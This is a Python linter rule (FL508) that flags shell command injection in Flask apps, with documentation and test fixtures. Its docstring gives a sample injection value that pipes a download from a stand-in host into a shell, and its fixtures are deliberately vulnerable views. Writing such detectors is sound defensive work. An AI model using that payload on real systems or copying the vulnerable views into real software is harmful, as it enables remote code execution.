"""FL508 shell-injection: A shell command is built from request data."""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from flasklint.api import (
    CallFlows,
    FileRule,
    Finding,
    Invalid,
    ProjectModel,
    first_arg,
    flaskapi,
    flow_findings,
    is_dynamic_string,
    is_true,
    kwarg_value,
    string_value,
)

SHELL_CALLS = flaskapi.SHELL_CALLS
SUBPROCESS_CALLS = flaskapi.SUBPROCESS_CALLS
PROGRAM_CALLS = ("os.exec", "os.spawn", "os.posix_spawn")  # run a program by path, without a shell


class ShellInjection(FileRule):
    """A shell command is built from request data.

    ## What it checks
    `os.system(...)`, `os.popen(...)` and `subprocess.*(..., shell=True)`
    whose command carries request data (critical), or, inside a view, is
    built at run time from anything else (low: constants, numbers or
    allow-listed values). Without a shell, `subprocess.*([...])`,
    `os.exec*` and `os.spawn*` whose program (or whole argument list) is
    request data as written are critical: the client picks what runs. A
    maintenance command in a CLI command that uses no request data is not a
    finding. Also through
    the project's own functions: a view that hands request data to
    `run_cmd(cmd)`, whose body (or a helper it calls) runs it in a shell,
    is flagged at the view's call.

    ## Why it matters
    The shell interprets `;`, `&&`, `$(...)` and backticks in the command: a
    value such as `x; curl evil.sh | sh` runs whatever the client wants.

    ## Example
    ```python
    os.system("convert " + request.args["file"] + " out.png")
    ```

    ## Use instead
    ```python
    subprocess.run(["convert", filename, "out.png"], check=True)   # no shell, a list of arguments
    ```
    """

    code = "FL508"
    name = "shell-injection"
    skill = "security"
    severity = "critical"
    weight = 2.0
    unit = "repository"
    needs = (CallFlows,)
    surface = (
        "subprocess",
        "os.system",
        "os.popen",
        "os.execl",
        "os.execlp",
        "os.execv",
        "os.execvp",
        "os.execve",
        "os.spawnl",
        "os.spawnv",
        "commands",
        "pexpect",
    )
    good = (
        """\
import os
import subprocess

import click
from flask import Flask, request

app = Flask(__name__)


@app.cli.command("backup")
def backup():
    os.system("pg_dump app > backup.sql")


@app.post("/thumb")
def thumb():
    subprocess.run(["convert", request.form["name"], "out.png"], check=True)
    return "", 204
""",
    )
    bad = (
        Invalid(
            """\
import os

from flask import Flask, request

app = Flask(__name__)


@app.get("/ping")
def ping():
    host = request.args.get("host", "")
    return os.popen("ping -c 1 " + host).read()
""",
            expect=("app.py:11",),
        ),
        Invalid(
            """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.post("/convert")
def convert():
    subprocess.run(f"convert {request.form['name']} out.png", shell=True, check=True)
    return "", 204
""",
            expect=("app.py:10",),
        ),
    )

    @classmethod
    def across_files(cls, project: ProjectModel) -> Iterator[Finding]:
        """Request data handed to a function of the project that passes it on to the sink."""
        return flow_findings(
            cls, project, "shell", "request data reaches a shell command that {callee}() runs: command injection"
        )

    def visit_Call(self, node: cst.Call) -> None:
        qual = self.ctx.qualname(node.func) or ""
        if (qual in SUBPROCESS_CALLS and not is_true(kwarg_value(node, "shell"))) or qual.startswith(PROGRAM_CALLS):
            self._program(node, qual)
            return
        if not (qual in SHELL_CALLS or (qual in SUBPROCESS_CALLS and is_true(kwarg_value(node, "shell")))):
            return
        command = first_arg(node) or kwarg_value(node, "args")
        if command is None or string_value(command) is not None:
            return
        if self.ctx.is_request_derived(command):
            self.report(node, f"{qual}() runs a shell command built from request data: command injection")
        elif self.ctx.in_request_handler and is_dynamic_string(command):
            # built from constants, numbers or allow-listed values: worth a list of arguments, not an exploit
            self.report(node, f"{qual}() in a view runs a shell command built at run time", "low")

    def _program(self, node: cst.Call, qual: str) -> None:
        """No shell, but the client picks the program: `subprocess.run([request.json["program"], ...])`,
        `os.execv(path, ...)`, or the whole argument list."""
        command = first_arg(node) or kwarg_value(node, "args")
        if command is None:
            return
        program: cst.BaseExpression = command
        if isinstance(command, (cst.List, cst.Tuple)):
            if not command.elements or isinstance(command.elements[0], cst.StarredElement):
                return
            program = command.elements[0].value
        if self.ctx.request_flow(program) == "direct":
            self.report(node, f"{qual}() runs a program the request names: command injection")
